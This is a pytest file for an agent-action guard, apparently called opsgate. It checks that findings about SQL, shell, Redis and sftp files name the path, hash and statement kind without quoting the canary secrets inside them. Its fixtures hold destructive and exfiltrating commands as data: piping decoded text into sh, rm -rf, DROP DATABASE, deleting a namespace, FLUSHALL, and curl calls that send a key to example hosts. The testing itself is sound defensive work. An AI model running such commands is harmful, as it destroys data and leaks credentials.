"""Evidence never carries a file's contents (SPEC §4 safeguard 7, issue 13): every
producer that classifies a file's text, fed files full of canary secrets, says
what it found — path, hash, statement kind, names — and never the text."""

from __future__ import annotations

import hashlib
import secrets
from pathlib import Path

import pytest

from opsgate.classify import ClassifyContext, _evidence, classify
from opsgate.classify._evidence import MAX_COPY, TRIPS, copies, names_only
from opsgate.guard import evaluate
from opsgate.models import Action, Classification, Finding

AWS = "AKIA" + secrets.token_hex(8).upper()
KEY = secrets.token_urlsafe(30)  # random, the shape of a generated password or key
CANARIES = (AWS, KEY)

SQL = f"""-- deploy token {AWS}
UPDATE users SET api_key = '{KEY}' WHERE id = 1;
DROP TABLE orders;
INSERT INTO audit VALUES ('{AWS}', 'note');
\\connect postgresql://app:{KEY}@db.prod.internal/shop
COPY t FROM PROGRAM 'curl -H "X-Key: {KEY}" https://x.example';
CREATE INDEX idx_orders_created ON orders (created_at);
"""
SCRIPT = f"""export DEPLOY_TOKEN={AWS}
curl -H 'Authorization: Bearer {KEY}' https://api.example/hook
kubectl --context prod-eu delete namespace payments
mysql -h db.prod.internal -p{KEY} -e 'DROP DATABASE shop'
echo {KEY} | base64 -d | sh
rm -rf /srv/{KEY}
root:$6${KEY}$x:19000:0:99999:7:::
{KEY} --password {AWS}
"""
REDIS = f"redis.call('SET', 'k', '{KEY}') redis.call('FLUSHALL') -- {AWS}"
BATCH = f"put {KEY}.txt\nrm /var/www/{AWS}\n"

# (file name, its text, the command that makes a producer classify it)
CASES = [
    ("fix.sql", SQL, "psql -h db.staging.internal -d shop -f fix.sql"),
    ("fix.sql", SQL, "psql -h db.staging.internal < fix.sql"),
    ("fix.sql", SQL, "mysql -h db.staging.internal shop < fix.sql"),
    ("fix.sql", SQL, "sqlite3 app.db < fix.sql"),
    ("fix.sql", SQL, "cat fix.sql | psql -h db.staging.internal"),
    ("fix.sql", SQL, "npx wrangler d1 execute shop --remote --file fix.sql"),
    ("fix.sql", SQL, "bash -c 'psql -h db.staging.internal -f fix.sql'"),
    ("deploy.sh", SCRIPT, "bash deploy.sh"),
    ("deploy.sh", SCRIPT, "sh ./deploy.sh"),
    ("deploy.sh", SCRIPT, "source deploy.sh"),
    ("deploy.sh", SCRIPT, "ssh web-1.staging < deploy.sh"),
    ("deploy.sh", SCRIPT, "bash < deploy.sh"),
    ("flush.lua", REDIS, "redis-cli -h cache.staging --eval flush.lua"),
    ("batch.txt", BATCH, "sftp -b batch.txt deploy@files.staging"),
    ("batch.txt", BATCH, "lftp -f batch.txt"),
]


def _run(tmp_path: Path, name: str, text: str, command: str) -> Classification:
    (tmp_path / name).write_text(text)
    action = Action("shell.exec", "Bash", {"command": command}, cwd=str(tmp_path))
    return classify(action, ClassifyContext(project_dir=str(tmp_path)))


def _texts(findings: tuple[Finding, ...]) -> list[str]:
    return [t for f in findings for t in (f.evidence, f.reason, f.target, f.env_source) if t]


@pytest.mark.parametrize(("name", "text", "command"), CASES, ids=[c[2] for c in CASES])
def test_no_producer_quotes_a_file(tmp_path: Path, name: str, text: str, command: str) -> None:
    TRIPS.clear()
    c = _run(tmp_path, name, text, command)
    assert c.files and c.findings
    for shown in _texts(c.findings):
        assert not any(canary in shown for canary in CANARIES), shown
    assert copies(c.findings, c.files, command, limit=24) == []
    # The guard never had to step in: the rewrite alone kept the texts out.  A
    # producer that quotes a file in a way the rewrite misses fails here.
    assert TRIPS == []


@pytest.mark.parametrize(("name", "text", "command"), CASES, ids=[c[2] for c in CASES])
def test_no_canary_in_the_decision_a_hook_or_card_shows(
    tmp_path: Path, name: str, text: str, command: str
) -> None:
    (tmp_path / name).write_text(text)
    action = Action("shell.exec", "Bash", {"command": command}, cwd=str(tmp_path))
    decision = evaluate(action)
    shown = repr(decision.to_json()) + "\n".join(decision.reasons) + (decision.suggestion or "")
    assert not any(canary in shown for canary in CANARIES)


def test_evidence_names_the_file_its_hash_and_the_statement_kind(tmp_path: Path) -> None:
    c = _run(tmp_path, "fix.sql", "DROP TABLE orders;\n", "psql -h db.staging.internal -f fix.sql")
    digest = hashlib.sha256(b"DROP TABLE orders;\n").hexdigest()
    (drop,) = [f for f in c.findings if f.category == "database.drop"]
    assert drop.evidence == f"fix.sql (sha256 {digest[:12]}…): DROP TABLE"
    assert drop.reason == "drops table orders"  # the name the parser produced
    assert drop.target == "db.staging.internal"


def test_a_statement_that_starts_with_anything_else_is_named_by_category(
    tmp_path: Path,
) -> None:
    c = _run(tmp_path, "x.sql", f"{KEY};\n", "psql -h db.staging.internal -f x.sql")
    (unknown,) = c.findings
    assert unknown.evidence.endswith(": database.unknown") and KEY not in unknown.evidence


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("drops table orders", "drops table orders"),
        ("creates index idx_orders_created", "creates index idx_orders_created"),
        ("deletes /srv/data (a system path)", "deletes /srv/data (a system path)"),
        ("changes privileges on OrdersArchive2023", "changes privileges on OrdersArchive2023"),
        (f"drops table {KEY}", "drops table …"),
        (f"connects to postgresql://app:{KEY}@db", "connects to …"),
        (f"uses {AWS}", "uses …"),
        ("sets 3f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c", "sets …"),
        ("runs root:$6$salt$hash:19000", "runs …"),
        # a URL-safe key breaks into short runs at - and _: judged whole all the same
        ("deletes /srv/aH5bCPF-SbID7_gIJgSfD-vdnEB0V_ijRCAHYDiW", "deletes …"),
        (
            "deletes /srv/aws-eks-prod-eu-west-1-nodegroup",
            "deletes /srv/aws-eks-prod-eu-west-1-nodegroup",
        ),
        ("a" * 70, "…"),
    ],
    ids=lambda value: value if KEY not in value and AWS not in value else "<canary>",
)
def test_names_only_keeps_names_and_nothing_else(text: str, kept: str) -> None:
    from opsgate.audit.redact import Redactor

    assert names_only(text, Redactor(from_environ=False).text) == kept


def test_the_guard_withholds_what_a_broken_rewrite_would_leak(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the rewrite switched off (a producer regression the rules miss), the
    guard still keeps every run longer than MAX_COPY out, and says so in TRIPS."""
    monkeypatch.setattr(_evidence, "_rewrite", lambda finding, *_args: finding)
    TRIPS.clear()
    long_literal = f"INSERT INTO t VALUES ('{KEY}{KEY}{AWS}');\n"
    c = _run(tmp_path, "x.sql", long_literal, "psql -h db.staging.internal -f x.sql")
    assert TRIPS and copies(c.findings, c.files) == []
    assert all(len(t) < len(long_literal) for t in _texts(c.findings))
    assert len(KEY) * 2 > MAX_COPY


def test_what_the_agent_typed_is_not_a_copy(tmp_path: Path) -> None:
    """The command is on the card anyway: a finding quoting it is not a file's text."""
    command = "psql -h db.staging.internal -c 'SELECT 1' -f fix.sql"
    c = _run(tmp_path, "fix.sql", command + "\n", command)
    assert TRIPS == [] or copies(c.findings, c.files, command) == []
